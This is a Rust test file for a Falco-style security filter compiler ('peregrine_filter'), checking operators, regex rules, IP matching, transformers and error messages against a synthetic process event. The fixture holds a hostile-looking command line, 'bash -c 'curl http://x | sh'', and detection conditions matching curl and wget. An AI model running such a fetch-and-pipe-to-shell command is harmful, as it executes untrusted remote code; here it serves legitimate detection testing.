mod support;

use peregrine_filter::{compile, parse, Compiler, EvalContext};
use support::{compile_err, eval, TestCatalog, TestEvent, TV};

fn ev() -> TestEvent {
    TestEvent::new()
        .s("proc.name", "bash")
        .s("proc.pname", "sshd")
        .s("proc.cmdline", "bash -c 'curl http://x | sh'")
        .s("proc.exepath", "/usr/bin/bash")
        .s("fd.name", "/etc/ssh/sshd_config")
        .s("fs.path.name", "/var/run/docker.sock")
        .s("evt.type", "openat")
        .s("evt.res", "SUCCESS")
        .s("container.id", "host")
        .with("evt.num", vec![TV::U(42)])
        .with("evt.rawres", vec![TV::I(-2)])
        .with("fd.num", vec![TV::I(3)])
        .with("proc.pid", vec![TV::I(1234)])
        .with("user.uid", vec![TV::U(1000)])
        .with("evt.is_open_write", vec![TV::B(true)])
        .with("evt.latency", vec![TV::U(1500)])
        .with("test.double", vec![TV::D(2.0)])
        .with("test.i32", vec![TV::I(-5)])
        .with("test.u16", vec![TV::U(65535)])
        .with("evt.buffer", vec![TV::Bytes(b"MZ\x90\x00payload".to_vec())])
        .with("proc.aname", vec![TV::S("sshd"), TV::S("systemd")])
        .with("proc.aname[1]", vec![TV::S("sshd")])
        .with("proc.argv", vec![TV::S("-c"), TV::S("ls")])
        .with("fd.types", vec![TV::S("ipv4"), TV::S("file")])
        .with("test.strlist", vec![])
        .with("test.u64list", vec![TV::U(1), TV::U(2)])
        .with(
            "test.iplist",
            vec![TV::Ip("10.0.0.1"), TV::Ip("192.168.1.1")],
        )
        .with("test.netlist", vec![TV::Ip("10.0.0.1"), TV::Ip("8.8.8.8")])
        .s("evt.arg[flags]", "O_RDONLY|O_CLOEXEC")
        .s("evt.arg[0]", "3")
}

fn sock() -> TestEvent {
    ev().with("fd.sip", vec![TV::Ip("93.184.216.34")])
        .with("fd.cip", vec![TV::Ip("10.1.2.3")])
        .with("fd.snet", vec![TV::Ip("93.184.216.34")])
        .with("fd.cnet", vec![TV::Ip("10.1.2.3")])
        .with("fd.ip", vec![TV::Ip("10.1.2.3"), TV::Ip("93.184.216.34")])
        .with("fd.net", vec![TV::Ip("10.1.2.3"), TV::Ip("93.184.216.34")])
        .with("fd.port", vec![TV::U(40000), TV::U(443)])
        .with("fd.sport", vec![TV::U(443)])
        .with("fd.cport", vec![TV::U(40000)])
}

fn t(cond: &str) -> bool {
    eval(cond, &mut ev())
}

fn ts(cond: &str) -> bool {
    eval(cond, &mut sock())
}

#[test]
fn string_operators() {
    assert!(t("proc.name = bash"));
    assert!(t("proc.name == bash"));
    assert!(!t("proc.name = bas"));
    assert!(t("proc.name != zsh"));
    assert!(!t("proc.name != bash"));
    // Ordering operators take numbers or fields only (strings compare with strcmp).
    assert!(t("proc.name < val(proc.pname)") && t("proc.name <= val(proc.name)"));
    assert!(!t("proc.name > val(proc.pname)") && t("proc.name >= val(proc.name)"));
    assert!(t("proc.cmdline contains curl"));
    assert!(!t("proc.cmdline contains wget"));
    assert!(t("proc.cmdline icontains CURL"));
    assert!(!t("proc.cmdline contains CURL"));
    assert!(t("proc.exepath startswith /usr/"));
    assert!(!t("proc.exepath startswith /bin/"));
    assert!(t("proc.exepath endswith /bash"));
    assert!(t("fd.name glob /etc/*"));
    assert!(t("fd.name glob '/etc/ssh/sshd_confi?'"));
    assert!(t("fd.name glob /etc/[rs]sh/*"));
    assert!(!t("fd.name glob /ETC/*"));
    assert!(t("fd.name iglob /ETC/*"));
    assert!(t("proc.name regex 'ba.h'"));
    assert!(!t("proc.name regex 'as'"), "regex is anchored at both ends");
    assert!(t("proc.name regex '.*as.*'"));
    assert!(t("proc.name regex '(bash|zsh)'"));
    assert!(t("proc.name in (zsh, bash)"));
    assert!(!t("proc.name in (zsh, ksh)"));
    assert!(!t("proc.name in ()"));
    assert!(t("proc.name intersects (bash)"));
    assert!(
        t("proc.name in bash"),
        "a list reference compares as one literal"
    );
    assert!(t("fd.name pmatch (/etc/ssh, /tmp)"));
    assert!(t("fd.name pmatch (/etc/ssh/sshd_config)"));
    assert!(!t("fd.name pmatch (/etc/ss)"));
    assert!(t("fs.path.name pmatch (/var/run)"));
    assert!(t("fs.path.name startswith /var"));
    assert!(t("proc.name exists"));
    assert!(!t("fd.sip exists"));
    assert!(t("evt.arg.flags contains O_CLOEXEC"));
    assert!(t("evt.arg[0] = 3"));
}

/// Falco compiles `regex` operands with RE2 in POSIX mode; expectations follow RE2's parser.
#[test]
fn regex_is_re2_posix_syntax() {
    // proc.cmdline is "bash -c 'curl http://x | sh'".
    assert!(t("proc.cmdline regex 'bash -c .*'"));
    assert!(t("proc.cmdline regex '[[:alpha:]]+ -c [^|]+[|] sh.'"));
    assert!(t("proc.name regex 'ba(sh){1,2}'") && !t("proc.name regex 'b(a){2}sh'"));
    // Repetitions stack instead of meaning laziness: `+?` is `*`.
    assert!(t("proc.name regex 'bashx+?'"));
    // A `{` that does not start a count is a literal.
    let mut e = ev().s("proc.name", "a{,2}");
    assert!(eval("proc.name regex 'a{,2}'", &mut e));
    // `^` and `$` also match around line breaks.
    let mut e = ev().s("proc.cmdline", "line1\nline2");
    assert!(eval("proc.cmdline regex 'line1$\\n^line2'", &mut e));
    // Perl's extensions are errors, with RE2's words.
    assert_eq!(
        compile_err("proc.name regex '\\\\d+'"),
        "invalid regex pattern: invalid escape sequence: \\d"
    );
    assert_eq!(
        compile_err("proc.name regex '(?i)bash'"),
        "invalid regex pattern: no argument for repetition operator: ?"
    );
    assert_eq!(
        compile_err("proc.name regex 'a{1001}'"),
        "invalid regex pattern: invalid repetition size: {1001}"
    );
    assert_eq!(
        compile_err("proc.name regex 'ba[sh'"),
        "invalid regex pattern: missing ]: [sh"
    );
    assert_eq!(
        compile_err("proc.name regex anyof ('b.*', '\\\\w')"),
        "invalid regex pattern: invalid escape sequence: \\w"
    );
}

#[test]
fn numeric_bool_and_other_types() {
    assert!(t("evt.num = 42") && t("evt.num != 41") && t("evt.num > 41") && t("evt.num >= 42"));
    assert!(t("evt.num < 43") && t("evt.num <= 42") && !t("evt.num < 42"));
    assert!(t("evt.num in (1, 42)") && !t("evt.num in (1, 2)"));
    assert!(t("evt.rawres < 0") && t("evt.rawres = -2") && t("evt.rawres in (-2)"));
    assert!(t("fd.num >= 0"));
    assert!(t("user.uid = 1000") && t("user.uid > 999"));
    assert!(t("evt.is_open_write = true") && !t("evt.is_open_write = false"));
    assert!(t("evt.is_open_write != false") && t("evt.is_open_write in (true)"));
    assert!(t("evt.latency > 1000"));
    assert!(t("test.double = 2") && t("test.double < 3"));
    assert!(t("test.i32 = -5") && t("test.i32 < 0"));
    assert!(
        t("test.u16 = 65535") && t("test.u16 = -1"),
        "literals wrap to the field width"
    );
    assert!(t("evt.buffer contains payload"));
    assert!(!t("evt.buffer bcontains 905A"));
    assert!(t("evt.buffer bcontains 5a90") && t("evt.buffer bstartswith 4d5a"));
    assert!(!t("evt.buffer bstartswith 5a"));
    assert!(t("evt.buffer startswith MZ") && t("evt.buffer endswith load"));
}

#[test]
fn not_extractable_is_false_for_every_operator() {
    for cond in [
        "fd.sip = 1.2.3.4",
        "fd.sip != 1.2.3.4",
        "fd.sport != 80",
        "fd.sport in (80)",
        "fd.sip exists",
        "fd.snet != 10.0.0.0/8",
        "tolower(proc.exepath) != x",
    ] {
        let mut e = ev();
        e.values.remove("proc.exepath");
        assert!(!eval(cond, &mut e), "{cond}");
    }
    assert!(t("not fd.sip = 1.2.3.4"));
    assert!(!t("fd.sip != 1.2.3.4"));
}

#[test]
fn ip_and_networks() {
    assert!(
        ts("fd.sip = 93.184.216.34") && ts("fd.sip != 1.1.1.1") && ts("fd.sip = \"93.184.216.34\"")
    );
    assert!(ts("fd.sip in (1.1.1.1, 93.184.216.34)") && !ts("fd.sip in (1.1.1.1)"));
    assert!(ts("fd.cip = 10.1.2.3"));
    assert!(
        !ts("fd.sip = ::1") && ts("fd.sip != ::1"),
        "family mismatch: = false, != true"
    );
    assert!(ts("fd.snet = 93.184.0.0/16") && ts("fd.snet != 10.0.0.0/8"));
    assert!(ts("fd.cnet in (10.0.0.0/8, 192.168.0.0/16)"));
    assert!(!ts(
        "fd.snet in (\"10.0.0.0/8\", \"172.16.0.0/12\", \"192.168.0.0/16\")"
    ));
    assert!(ts(
        "not fd.snet in (\"10.0.0.0/8\", \"172.16.0.0/12\", \"192.168.0.0/16\")"
    ));
    assert!(ts("fd.snet in (0.0.0.0/0)"));
    assert!(!ts("fd.snet in (::/1)"));
    // Either-side fields: = / in match either end; != only when both differ.
    assert!(ts("fd.ip = 10.1.2.3") && ts("fd.ip = 93.184.216.34"));
    assert!(ts("fd.ip != 1.1.1.1") && !ts("fd.ip != 10.1.2.3"));
    assert!(ts("fd.ip in (8.8.8.8, 10.1.2.3)"));
    assert!(ts("fd.ip != \"0.0.0.0\""));
    assert!(
        ts("fd.net = 10.0.0.0/8") && !ts("fd.net != 10.0.0.0/8") && ts("fd.net != 127.0.0.0/8")
    );
    assert!(ts("fd.net in (127.0.0.0/8, 93.184.216.0/24)"));
    assert!(ts("fd.port = 443") && ts("fd.port = 40000") && !ts("fd.port != 443"));
    assert!(!ts("fd.port > 40000") && ts("fd.port >= 40000") && ts("fd.port < 444"));
    assert!(ts("fd.port in (22, 443)"));
    assert!(ts("fd.sport = 443") && ts("fd.sport = https") && ts("fd.sport in (80, 443)"));
    // A listening socket has a single address: it is both ends.
    let mut listen = ev().with("fd.ip", vec![TV::Ip("0.0.0.0")]);
    assert!(!eval("fd.ip != \"0.0.0.0\"", &mut listen));
    assert!(eval("fd.ip = 0.0.0.0", &mut listen));
    // A socket without role: no value, so nothing matches.
    let mut none = ev().with("fd.ip", vec![]);
    assert!(!eval("fd.ip != 1.2.3.4", &mut none) && !eval("fd.ip = 1.2.3.4", &mut none));
    assert!(eval("fd.ip exists", &mut none));
    // IPv6.
    let mut v6 = ev()
        .with("fd.sip", vec![TV::Ip("2001:db8::1")])
        .with("fd.snet", vec![TV::Ip("2001:db8::1")]);
    assert!(eval("fd.sip = 2001:db8::1", &mut v6));
    assert!(eval("fd.snet in (2001:db8::/32)", &mut v6));
    assert!(!eval("fd.snet in (10.0.0.0/8)", &mut v6));
    assert!(eval("fd.snet != 10.0.0.0/8", &mut v6));
}

#[test]
fn any_value_fields() {
    assert!(t("proc.aname = systemd") && t("proc.aname = sshd") && !t("proc.aname = init"));
    assert!(t("proc.aname in (init, systemd)"));
    assert!(t("proc.aname != sshd"), "any ancestor that differs");
    assert!(t("proc.aname startswith sys"));
    assert!(t("proc.aname[1] = sshd") && !t("proc.aname[1] = systemd"));
    assert!(
        !t("proc.aname[2] = systemd"),
        "missing ancestor is not extractable"
    );
}

#[test]
fn list_fields() {
    assert!(t("fd.types intersects (ipv4)") && !t("fd.types intersects (ipv6)"));
    assert!(t("fd.types in (ipv4, file, ipv6)") && !t("fd.types in (ipv4)"));
    assert!(
        t("test.strlist in (x)"),
        "every value of an empty list is in any set"
    );
    assert!(!t("test.strlist intersects (x)"));
    assert!(t("test.u64list in (1, 2, 3)") && t("test.u64list intersects (2)"));
    assert!(t("test.iplist intersects (192.168.1.1)"));
    assert!(t("test.netlist intersects (8.0.0.0/8)") && !t("test.netlist in (8.0.0.0/8)"));
    assert!(t("test.netlist in (8.0.0.0/8, 10.0.0.0/8)"));
    assert!(t("fd.types exists"));
    assert!(t("len(fd.types) = 2") && t("len(test.strlist) = 0"));
}

#[test]
fn transformers() {
    assert!(t("tolower(proc.cmdline) contains curl"));
    assert!(t("toupper(proc.name) = BASH"));
    assert!(t("basename(proc.exepath) = bash"));
    assert!(t("toupper(basename(proc.exepath)) = BASH"));
    assert!(t("len(proc.name) = 4") && t("len(proc.exepath) > 10"));
    assert!(t("proc.name = tolower(proc.name)"));
    assert!(t("basename(proc.exepath) = val(proc.name)"));
    assert!(t("proc.name = basename(proc.exepath)"));
    let mut e = ev().s("proc.cmdline", "aGVsbG8=");
    assert!(eval("b64(proc.cmdline) = hello", &mut e));
    let mut bad = ev().s("proc.cmdline", "not base64!");
    assert!(!eval("b64(proc.cmdline) exists", &mut bad));
    assert!(!eval("b64(proc.cmdline) != x", &mut bad));
    assert!(t("join(\",\", proc.argv) = \"-c,ls\""));
    assert!(t("join(\"\", fd.types) = ipv4file"));
    assert!(t("concat(proc.pname, \"/\", proc.name) = sshd/bash"));
    assert!(t("getopt(proc.argv, \"c:\")[c] = ls"));
    assert!(t("getopt(proc.argv, \"c:\") intersects (ls)"));
    assert!(t("join(\"+\", (proc.name, proc.pname)) = bash+sshd"));
}

#[test]
fn field_comparisons() {
    let mut e = ev().s("proc.pname", "bash");
    assert!(eval("proc.name = val(proc.pname)", &mut e));
    assert!(!t("proc.name = val(proc.pname)"));
    assert!(t("proc.name != val(proc.pname)"));
    assert!(t("proc.cmdline contains val(proc.name)"));
    assert!(t("proc.exepath endswith val(proc.name)"));
    assert!(t("proc.pid > val(fd.num)"));
    assert!(t("proc.name in val(proc.name)"));
    let mut missing = ev();
    missing.values.remove("proc.pname");
    assert!(!eval("proc.name != val(proc.pname)", &mut missing));
}

#[test]
fn modifiers() {
    assert!(t("proc.name startswith oneof (ba, zs)"));
    assert!(
        !t("proc.name startswith oneof (ba, b)"),
        "two matches is not one"
    );
    assert!(
        !t("proc.name startswith oneof (ba, ba)"),
        "duplicates count twice"
    );
    assert!(t("proc.name startswith anyof (zs, ba)"));
    assert!(!t("proc.name startswith anyof (zs, ks)"));
    assert!(t("proc.name startswith allof (b, ba, bas)"));
    assert!(!t("proc.name startswith allof (b, z)"));
    assert!(t("proc.cmdline contains anyof (wget, curl)"));
    assert!(t("proc.cmdline contains allof (curl, sh)"));
    assert!(!t("proc.cmdline contains allof (curl, wget)"));
    assert!(t("proc.exepath endswith anyof (/sh, /bash)"));
    assert!(t("proc.name = anyof (zsh, bash)"));
    assert!(t("proc.name != allof (zsh, ksh)") && !t("proc.name != allof (zsh, bash)"));
    assert!(t("proc.name regex anyof ('z.*', 'b.*')"));
    assert!(t("proc.name glob oneof ('b*', 'z*')"));
    assert!(t("proc.name icontains anyof (ASH)"));
    assert!(!t("proc.name startswith anyof ()"));
    assert!(!t("proc.name startswith allof ()"));
    assert!(t("proc.name != oneof (bash, zsh)"));
    assert!(ts("fd.sip = anyof (1.1.1.1, 93.184.216.34)"));
    assert!(t("evt.num = anyof (1, 42)"));
}

#[test]
fn boolean_logic_and_short_circuit() {
    assert!(t("proc.name = bash and evt.num = 42"));
    assert!(!t("proc.name = bash and evt.num = 41"));
    assert!(t("proc.name = zsh or evt.num = 42"));
    assert!(t("not proc.name = zsh"));
    assert!(t("not (proc.name = zsh or proc.name = ksh)"));
    assert!(t(
        "proc.name = zsh or proc.name = ksh or (evt.num = 42 and not fd.num = 4)"
    ));
    // Short circuit: the second field is never extracted.
    let mut e = ev();
    assert!(!eval("proc.name = zsh and proc.pname = sshd", &mut e));
    assert_eq!(e.calls.get("proc.pname"), None);
    let mut e = ev();
    assert!(eval("proc.name = bash or proc.pname = x", &mut e));
    assert_eq!(e.calls.get("proc.pname"), None);
}

#[test]
fn extraction_is_cached_per_event_across_filters() {
    let catalog = TestCatalog;
    let mut c = Compiler::new(&catalog);
    let conds = [
        "proc.name = bash",
        "proc.name in (a, b) or tolower(proc.name) = bash",
        "tolower(proc.name) startswith ba and proc.pname = sshd",
        "fd.sip = 1.2.3.4",
        "fd.sip != 1.2.3.4",
    ];
    let filters: Vec<_> = conds
        .iter()
        .map(|s| c.compile(&parse(s).unwrap()).unwrap())
        .collect();
    assert_eq!(
        c.slot_count(),
        4,
        "proc.name, tolower(proc.name), proc.pname, fd.sip"
    );
    let mut cx = EvalContext::new();
    let mut e = ev();
    for round in 0..3 {
        cx.next_event();
        let res: Vec<bool> = filters.iter().map(|f| f.eval(&mut cx, &mut e)).collect();
        assert_eq!(res, [true, true, true, false, false]);
        assert_eq!(e.calls["proc.name"], round + 1);
        assert_eq!(e.calls["proc.pname"], round + 1);
        assert_eq!(
            e.calls["fd.sip"],
            round + 1,
            "failed extractions are cached too"
        );
    }
    // A new event sees new values.
    cx.next_event();
    let mut z = ev().s("proc.name", "zsh");
    assert!(!filters[0].eval(&mut cx, &mut z));
}

#[test]
fn dns_fallback() {
    let mut e = sock();
    e.dns
        .insert("example.com".into(), vec!["93.184.216.34".parse().unwrap()]);
    assert!(eval("fd.sip.name = example.com", &mut e));
    assert!(eval("fd.sip.name in (foo.org, example.com)", &mut e));
    assert!(!eval("fd.sip.name != example.com", &mut e));
    assert!(!eval("fd.sip.name = foo.org", &mut e));
    // When the extractor knows the name, plain string comparison applies.
    let mut named = sock().s("fd.sip.name", "cached.example");
    assert!(eval("fd.sip.name startswith cached", &mut named));
}

#[test]
fn literal_errors() {
    assert_eq!(
        compile_err("fd.sip = 10.0.0.0/8"),
        "unrecognized IPv4 address 10.0.0.0/8"
    );
    assert_eq!(
        compile_err("fd.sip in (my_ips)"),
        "unrecognized IPv6 address my_ips"
    );
    assert_eq!(
        compile_err("fd.snet = 10.0.0.1"),
        "unrecognized IP network 10.0.0.1"
    );
    assert_eq!(
        compile_err("fd.snet in (10.0.0.0/40)"),
        "invalid netmask 40"
    );
    assert_eq!(compile_err("evt.num = abc"), "abc is not a valid number");
    assert_eq!(compile_err("evt.num > 0x10"), "0x10 is not a valid number");
    assert_eq!(
        compile_err("fd.sport = nosuch"),
        "unrecognized protocol nosuch"
    );
    assert_eq!(
        compile_err("evt.is_open_write = yes"),
        "filter error: unrecognized boolean value yes"
    );
    assert_eq!(
        compile_err("evt.buffer bcontains xyz"),
        "filter error: bcontains and bstartswith operator support hex strings only"
    );
    assert_eq!(
        compile_err("proc.name = \"a\\x00b\""),
        "filter error: filter value cannot contain a NUL byte (\\x00)"
    );
    assert_eq!(
        compile_err("evt.type = nosuchevent"),
        "unknown event type nosuchevent"
    );
    assert_eq!(
        compile_err("evt.type in (open, foo)"),
        "unknown event type foo"
    );
    assert!(compile_err("proc.name regex '('").starts_with("invalid regex pattern: "));
}

#[test]
fn type_and_operator_errors() {
    assert_eq!(
        compile_err("proc.nobody = x"),
        "filter_check called with nonexistent field proc.nobody"
    );
    assert_eq!(
        compile_err("a.b = 1 and my_macro"),
        "filter_check called with nonexistent field a.b"
    );
    assert_eq!(
        compile_err("my_macro"),
        "filter error: unexpected identifier 'my_macro'"
    );
    assert_eq!(
        compile_err("proc.name = x and not my_macro"),
        "filter error: unexpected identifier 'my_macro'"
    );
    assert_eq!(
        compile_err("evt.num contains 1"),
        "filter error: 'contains' operator not supported for numeric filters"
    );
    assert_eq!(
        compile_err("evt.is_open_write > 1"),
        "filter error: '>' operator not supported for numeric filters"
    );
    assert_eq!(
        compile_err("fd.sip contains 1"),
        "filter error: 'contains' operator not supported for ip address and network filters"
    );
    assert_eq!(
        compile_err("fd.sip startswith anyof (1)"),
        "filter error: 'startswith' with modifier not supported for ip address and network filters"
    );
    assert_eq!(
        compile_err("proc.name bcontains 41"),
        "filter error: 'bcontains' operator not supported for string filters"
    );
    assert_eq!(
        compile_err("evt.buffer glob x"),
        "filter error: 'glob' operator not supported for buffer filters"
    );
    assert_eq!(
        compile_err("fd.types = ipv4"),
        "filter error: '=' operator not supported list filters"
    );
    assert_eq!(
        compile_err("test.i64list in (1)"),
        "filter error: list filters are not supported for type 'INT64'"
    );
    assert_eq!(
        compile_err("test.uid = 0"),
        "filter error: '=' operator not supported for type 'UID'"
    );
    assert_eq!(
        compile_err("test.sockaddr = x"),
        "filter error: '=' operator not supported for type 'SOCKADDR'"
    );
    assert_eq!(
        compile_err("tolower(proc.pid) = 1"),
        "can't add field transformer: type 'INT64' is not supported by 'tolower' transformer \
         applied on field 'proc.pid'"
    );
    assert_eq!(
        compile_err("toupper(fd.types) = 1"),
        "filter error: '=' operator not supported list filters"
    );
    assert_eq!(
        compile_err("b64(fs.path.name) = 1"),
        "can't add field transformer: type 'FSPATH' is not supported by 'b64' transformer \
         applied on field 'fs.path.name'"
    );
    assert_eq!(
        compile_err("tolower(proc.aname) = x"),
        "field 'proc.aname' does not support transformers"
    );
    assert_eq!(
        compile_err("tolower(proc.name)[1] = x"),
        "filter error: transformer 'tolower' does not support field arguments"
    );
    assert_eq!(
        compile_err("tolower(proc.name, proc.pname) = x"),
        "unknown multivalue transformer"
    );
    assert_eq!(
        compile_err("join(proc.argv) = x"),
        "unknown field transfomer 'join'"
    );
    assert_eq!(
        compile_err("join(\",\", proc.name) = x"),
        "join() second argument must be a list"
    );
    assert_eq!(
        compile_err("join(proc.argv, proc.argv) = x"),
        "join() first argument (separator) must be a single value, not a list"
    );
    assert_eq!(
        compile_err("join(\",\", proc.argv, proc.argv) = x"),
        "join() requires exactly 2 arguments: separator and list"
    );
    assert_eq!(
        compile_err("concat(proc.name, proc.pid) = x"),
        "concat() arguments must be strings"
    );
    assert_eq!(
        compile_err("getopt(proc.name, \"a\") = x"),
        "getopt() first argument must be a list"
    );
    assert_eq!(
        compile_err("getopt(proc.argv, \"a\")[ab] = x"),
        "getopt() field argument must be a single option character"
    );
    assert_eq!(
        compile_err("concat(proc.name, proc.pname)[x] = y"),
        "transformer 'concat' does not support field arguments"
    );
    // Field-to-field comparisons.
    assert_eq!(
        compile_err("proc.name pmatch val(proc.pname)"),
        "operator 'PMATCH' doesn't support right-hand side fields"
    );
    assert_eq!(
        compile_err("proc.name regex val(proc.pname)"),
        "operator 'REGEX' doesn't support right-hand side fields"
    );
    assert_eq!(
        compile_err("fd.snet = val(fd.cnet)"),
        "field type 'IPNET' doesn't support right-hand side fields"
    );
    assert_eq!(
        compile_err("fd.ip = val(fd.sip)"),
        "field 'fd.ip' doesn't support right-hand side fields"
    );
    assert_eq!(
        compile_err("proc.name = val(proc.aname)"),
        "field 'proc.aname' can't be used as a right-hand side field"
    );
    assert_eq!(
        compile_err("proc.name = val(proc.pid)"),
        "field 'proc.name' has type 'CHARBUF' while the right-hand side field 'proc.pid' has \
         incompatible type 'INT64'"
    );
    assert_eq!(
        compile_err("proc.name in val(proc.argv)"),
        "field 'proc.name' has type 'CHARBUF' while the right-hand side field 'proc.argv' has \
         incompatible type 'CHARBUF (list)'"
    );
    assert_eq!(
        compile_err("evt.arg = x"),
        "filter_check called with nonexistent field evt.arg"
    );
}

#[test]
fn warnings() {
    let w = |cond: &str| -> Vec<String> {
        compile(&parse(cond).unwrap(), &TestCatalog)
            .unwrap()
            .warnings()
            .iter()
            .map(|w| w.message.clone())
            .collect()
    };
    assert_eq!(
        w("proc.name regex bash"),
        [
            "regex check with 'bash' may be optimized with simpler operators such as '=', \
          'contains', 'startswith', 'endswith'"
        ]
    );
    assert!(w("proc.name regex 'ba(sh)?'").is_empty());
    assert_eq!(
        w("proc.name = proc.pname"),
        ["'proc.pname' may be a valid field misused as a const string value"]
    );
    assert_eq!(
        w("proc.name in (a, 'tolower(proc.name)')"),
        ["'tolower(proc.name)' may be a valid field transformer misused as a const string value"]
    );
    assert!(w("proc.name in (a, b, /bin/sh)").is_empty());
}

#[test]
fn eval_context_is_bound_to_its_compiler() {
    let catalog = TestCatalog;
    let f1 = compile(&parse("proc.name = bash").unwrap(), &catalog).unwrap();
    let f2 = compile(&parse("proc.pname = sshd").unwrap(), &catalog).unwrap();
    let mut cx = EvalContext::new();
    let mut e = ev();
    cx.next_event();
    // Both filters use slot 0 for different fields; the context must not mix them up.
    assert!(f1.eval(&mut cx, &mut e));
    assert!(f2.eval(&mut cx, &mut e));
    assert!(f1.eval(&mut cx, &mut e));
}

#[test]
fn filters_are_send_and_sync() {
    fn check<T: Send + Sync>() {}
    check::<peregrine_filter::Filter>();
    check::<peregrine_filter::EvalContext>();
}

#[test]
fn large_literal_lists() {
    let n = 100_000u32;
    let nets: Vec<String> = (0..n)
        .map(|i| {
            let a = i.wrapping_mul(2654435761);
            format!("{}.{}.{}.0/24", a >> 24, (a >> 16) & 255, (a >> 8) & 255)
        })
        .collect();
    let names: Vec<String> = (0..n).map(|i| format!("proc{i}")).collect();
    let cond = format!(
        "fd.snet in ({}) or proc.name in ({})",
        nets.join(", "),
        names.join(", ")
    );
    let f = compile(&parse(&cond).unwrap(), &TestCatalog).unwrap();
    let a = 77u32.wrapping_mul(2654435761);
    let inside: &'static str =
        Box::leak(format!("{}.{}.{}.9", a >> 24, (a >> 16) & 255, (a >> 8) & 255).into_boxed_str());
    let mut hit = ev()
        .with("fd.snet", vec![TV::Ip(inside)])
        .s("proc.name", "nope");
    assert!(f.eval_once(&mut hit));
    let probe_net = (1..=255u32)
        .map(|k| format!("{k}.{k}.{k}.0/24"))
        .find(|c| !nets.contains(c))
        .expect("a /24 outside the list");
    let probe: &'static str = Box::leak(probe_net.replace(".0/24", ".1").into_boxed_str());
    let mut name_hit = ev()
        .with("fd.snet", vec![TV::Ip(probe)])
        .s("proc.name", "proc99999");
    assert!(f.eval_once(&mut name_hit));
    let mut miss = ev()
        .with("fd.snet", vec![TV::Ip(probe)])
        .s("proc.name", "proc100000");
    assert!(!f.eval_once(&mut miss));
}
